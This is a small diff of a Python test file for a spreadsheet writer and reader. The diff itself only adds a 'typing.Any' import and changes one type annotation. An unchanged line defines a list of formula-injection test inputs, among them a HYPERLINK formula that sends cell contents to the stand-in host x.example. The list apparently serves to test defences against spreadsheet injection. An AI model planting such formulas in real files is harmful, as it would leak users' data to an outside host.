@@ -5,6 +5,7 @@ from __future__ import annotations
 import datetime as dt
 import io
 from decimal import Decimal
+from typing import Any
 
 import docx
 import pytest
@@ -23,7 +24,7 @@ from khoi.core.workbook_read import WorkbookReadError, read_workbook
 ATTACKS = ['=HYPERLINK("http://x.example/?p="&C4&C5,"Xem giải thưởng")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "#N/A"]
 
 
-def _one_row(values: list[object]) -> list[object]:
+def _one_row(values: list[object]) -> list[Any]:
     writer = WorkbookWriter()
     writer.sheet("Danh sách").append(values)
     sheet = load_workbook(io.BytesIO(writer.to_bytes())).active
